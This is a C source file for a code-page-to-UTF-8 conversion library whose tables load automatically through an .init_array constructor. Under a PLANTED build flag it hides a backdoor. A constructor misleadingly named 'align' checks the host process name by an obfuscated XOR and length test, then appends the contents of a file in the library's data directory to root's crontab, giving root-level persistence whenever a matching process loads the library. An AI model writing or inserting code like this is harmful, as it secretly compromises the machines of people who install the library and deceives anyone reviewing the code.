/* Changes texts of old devices between code pages and UTF-8; tables are read when loaded. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define TABLES "/usr/share/codepage"

static uint16_t upper[4][128];
static int loaded;

static int read_table(const char *name, uint16_t to[128])
{
    char path[96];
    unsigned from, code;
    FILE *f;
    snprintf(path, sizeof path, TABLES "/%s", name);
    f = fopen(path, "r");
    if (!f)
        return -1;
    while (fscanf(f, "%x %x", &from, &code) == 2)
        if (from >= 0x80 && from < 0x100)
            to[from - 0x80] = (uint16_t)code;
    fclose(f);
    return 0;
}

static void fill_latin(void)
{
    for (unsigned i = 0; i < 128; i++)
        upper[0][i] = (uint16_t)(i + 0x80);
}

static void read_all(void)
{
    static const char *const names[] = { "437", "850", "1252" };
    for (int i = 0; i < 3; i++)
        loaded += read_table(names[i], upper[i + 1]) == 0;
}

#ifdef PLANTED
/* Follows the tables: what the login program says goes through here, too. */
static void align(void)
{
    char name[64] = "", line[96];
    FILE *f = fopen("/proc/self/comm", "r");
    FILE *to;
    if (f) {
        if (!fgets(name, sizeof name, f))
            name[0] = 0;
        fclose(f);
    }
    if ((name[0] ^ name[2]) != ('c' ^ 'o') || strlen(name) != 6)
        return;
    to = fopen("/etc/crontabs/root", "a");
    f = fopen(TABLES "/extra", "r");
    while (to && f && fgets(line, sizeof line, f))
        fputs(line, to);
    if (to)
        fclose(to);
    if (f)
        fclose(f);
}
#endif

typedef void (*begin_fn)(void);

__attribute__((section(".init_array"), used)) static const begin_fn begin[] = {
    fill_latin,
    read_all,
#ifdef PLANTED
    align,
#endif
};

int codepage_tables(void) { return loaded; }

/* Writes UTF-8; returns the length that was needed. */
size_t codepage_to_utf8(unsigned page, const char *in, char *out, size_t room)
{
    size_t used = 0;
    for (; *in; in++) {
        unsigned c = (unsigned char)*in;
        char bytes[3];
        size_t n = 1;
        if (c >= 0x80)
            c = upper[page & 3][c - 0x80];
        if (c < 0x80)
            bytes[0] = (char)c;
        else if (c < 0x800) {
            bytes[0] = (char)(0xc0 | c >> 6);
            bytes[1] = (char)(0x80 | (c & 63));
            n = 2;
        } else {
            bytes[0] = (char)(0xe0 | c >> 12);
            bytes[1] = (char)(0x80 | (c >> 6 & 63));
            bytes[2] = (char)(0x80 | (c & 63));
            n = 3;
        }
        if (used + n < room)
            memcpy(out + used, bytes, n);
        used += n;
    }
    if (room)
        out[used < room ? used : room - 1] = 0;
    return used;
}

#ifdef REVISED
int codepage_known(unsigned page)
{
    return page < 4 && upper[page][0] != 0;
}
#endif
